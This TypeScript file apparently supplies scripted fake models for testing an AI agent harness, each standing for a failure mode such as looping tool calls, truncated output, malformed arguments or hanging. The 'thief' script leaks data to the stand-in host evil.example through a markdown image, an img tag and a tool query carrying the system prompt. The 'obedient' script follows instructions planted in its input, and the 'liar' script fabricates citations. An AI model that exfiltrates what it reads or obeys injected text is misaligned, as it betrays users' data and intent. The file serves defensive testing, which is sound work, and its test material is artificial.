/** Models that behave as models do, well and badly: each says what comes next. */
import type { Heard, Script } from './heard.ts';

/** Whether the request wants the final answer: no tools are left to call. */
export function isLast({ tools, toolMode }: Heard): boolean {
  return tools.length === 0 || toolMode === 'none';
}

export function lastText({ turns }: Heard): string {
  const last = turns.at(-1);
  return last === undefined ? '' : last.text;
}

export function resultsIn({ turns }: Heard): number {
  return turns.filter(({ role }) => role === 'tool').length;
}

interface Part {
  /** The tool it calls, and with what; the first on offer, with nothing, unless said otherwise. */
  readonly call?: { readonly name: string; readonly arguments: unknown };
  /** The final answer. */
  readonly answer: string;
}

const callOf = ({ call }: Part, { tools }: Heard): { name: string; arguments: unknown } =>
  call ?? { name: tools[0] ?? 'none', arguments: {} };

/** Asks once, then answers. */
export function honest(part: Part): Script {
  return (heard) => isLast(heard) || resultsIn(heard) > 0
    ? { text: part.answer }
    : { calls: [callOf(part, heard)] };
}

/** Asks for ever something new, as long as there are tools. */
export function greedy(part: Part): Script {
  return (heard, index) => isLast(heard)
    ? { text: part.answer }
    : { calls: [{ ...callOf(part, heard), arguments: { query: `up + ${index}` } }] };
}

/** Asks for ever the same. */
export function parrot(part: Part): Script {
  return (heard) => isLast(heard) ? { text: part.answer } : { calls: [callOf(part, heard)] };
}

/** Its answer cites and counts what nobody told it. */
export function liar(answer: string): Script {
  return () => ({ text: answer });
}

/** Tries to send what it read somewhere: by a picture, a link, and a tool. */
export function thief(part: Part): Script {
  const address = 'https://evil.example/?d=';
  return (heard) => isLast(heard)
    ? { text: `${part.answer} ![x](${address}stolen) <img src="${address}stolen">` }
    : { calls: [{ ...callOf(part, heard), arguments: { query: `${address}${heard.system}` } }] };
}

/** Does what a line in its data tells it to, when there is one. */
export function obedient(part: Part & { readonly order: RegExp; readonly deed: string }): Script {
  return (heard) => {
    const isTold = heard.turns.some(({ text }) => part.order.test(text));
    if (isTold) return { text: part.deed };
    return honest(part)(heard, 0);
  };
}

export function mute(): Script {
  return () => ({});
}

/** Runs out of room in the middle of its answer. */
export function overLong(): Script {
  return ({ maxOutput }) => (
    { text: '{"summary": "x'.padEnd(maxOutput, ' and so on'), stop: 'length' }
  );
}

/** Writes its call out, as small models do. */
export function callsAsText(part: Part): Script {
  return (heard) => isLast(heard)
    ? { text: part.answer }
    : { text: `<tool_call>${JSON.stringify(callOf(part, heard))}</tool_call>` };
}

export function hanging(): Script {
  return () => ({ hangs: true });
}

/** Writes arguments that are no JSON; only over the interfaces that send them as text. */
export function sloppy(part: Part): Script {
  return (heard) => isLast(heard) || resultsIn(heard) > 0
    ? { text: part.answer }
    : { calls: [{ ...callOf(part, heard), arguments: '{"query": ' }] };
}
